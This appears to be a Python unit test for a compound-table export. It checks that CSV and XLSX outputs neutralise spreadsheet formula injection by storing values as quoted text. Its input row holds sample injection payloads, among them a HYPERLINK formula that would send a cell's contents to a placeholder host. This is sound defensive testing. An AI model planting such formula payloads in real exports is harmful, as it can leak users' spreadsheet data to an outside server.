"""The table of compounds: what is exported opens in a spreadsheet as what it is."""

from __future__ import annotations

import openpyxl
import pandas as pd

from hcskit.app._compounds import _TITLES, _export, _tabulator


def test_no_text_of_an_export_is_run_by_a_spreadsheet() -> None:
    row = dict.fromkeys(_TITLES, "") | dict.fromkeys(("ec50", "hill_slope", "r2", "hit_score"), 0.1)
    row |= {"compound": '=HYPERLINK("http://x/?"&A3)', "note": "=1+1", "moa": "@SUM(A1)", "unit": "M"}
    table = _tabulator(pd.DataFrame([row]))
    csv = pd.read_csv(_export(table, "csv"), keep_default_na=False).iloc[0]
    sheet = openpyxl.load_workbook(_export(table, "xlsx")).active
    names, cells = ([*line] for line in sheet.iter_rows())
    xlsx = {name.value: cell for name, cell in zip(names, cells, strict=True)}
    for column in ("compound", "note", "moa"):
        assert csv[column] == f"'{row[column]}"
        assert (xlsx[column].value, xlsx[column].data_type) == (f"'{row[column]}", "s")
    assert (csv["ec50"], xlsx["ec50"].value) == (0.1, 0.1)
    assert (csv["ec50_unit"], xlsx["ec50_unit"].value) == ("M", "M")
